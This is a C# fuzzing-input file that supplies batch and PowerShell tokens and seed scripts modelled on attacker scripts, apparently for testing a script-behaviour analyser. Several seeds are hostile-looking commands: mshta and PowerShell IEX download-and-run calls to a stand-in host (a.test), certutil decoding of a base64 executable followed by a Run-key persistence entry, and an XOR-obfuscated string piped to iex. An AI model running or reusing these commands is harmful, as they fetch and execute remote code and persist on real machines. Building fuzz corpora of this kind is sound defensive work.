using System.Text;

namespace Platform.Fuzz.Targets.Behaviour;

/// <summary>Scripts of the kinds that attackers send, small ones, and the words of which they are made.</summary>
internal static class ScriptInputs
{
    public static IReadOnlyList<string> BatchTokens { get; } =
        ["%", "%%i", "%~1", "%a:~1,2%", "%a:b=c%", "!a!", "^", "&", "&&", "||", "|", "(", ")", "\"", "\r\n", "for /f \"tokens=1\" %%i in (", "for /l %%i in (1,1,3) do ", ") do ", "if not exist ", "==", " else ", ":a\r\n", "goto a", "call :a", "set a=", "set /a a=", "echo ", ">>x.bat", "cmd /c ", "powershell -e ", "certutil -decode a b", "start "];

    public static IReadOnlyList<byte[]> BatchSeeds { get; } = Octets(
        "@echo off\r\nset a=ms\r\n%a%hta http://a.test/x\r\n",
        "setlocal enabledelayedexpansion\r\nfor /f \"tokens=2 delims=.\" %%a in ('echo x.y') do (\r\nset z=!z!%%a\r\n) & call %%z%%\r\n:e\r\nif /i \"%1\"==\"x\" goto e else exit /b\r\n",
        "echo TVqQAAMA>a.b64&certutil -decode a.b64 a.exe&a.exe||reg add HKCU\\Run /v a /d \"%~f0\"");

    public static IReadOnlyList<string> PowerShellTokens { get; } =
        ["$a", "${a}", "$env:x", "'", "\"", "`", "(", ")", "{", "}", "[", "]", "@(", "@{", "$(", "|", ";", "\n", "iex ", "%{", "$_", " -f ", " -join ", " -split ", " -replace ", "..", ",", "[char]", "[Convert]::FromBase64String(", ".Replace(", " -bxor ", "for(", "while(", "function a{", "if(", "}else{", "@'\n", "\n'@", "::", "New-Object ", "=", "+=", "++", "<#", "#>"];

    public static IReadOnlyList<byte[]> PowerShellSeeds { get; } = Octets(
        "IEX (New-Object Net.WebClient).DownloadString(('ht'+'tp://a.test/{0}' -f 'x'))",
        "$k=7;$b=111,115,115,119;for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor $k};-join($b|%{[char]$_})|iex",
        "function f($x){ if ($x -gt 3) { return \"a$($x)b\" } else { f ($x+1) } }; try { & (f 1) } catch { switch($_){1{2}default{3}} }",
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAA0tMSgYAwkEkNQMAAAA='));(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,'Decompress'))).ReadToEnd()");

    private static byte[][] Octets(params IEnumerable<string> sources) => [.. sources.Select(Encoding.UTF8.GetBytes)];
}
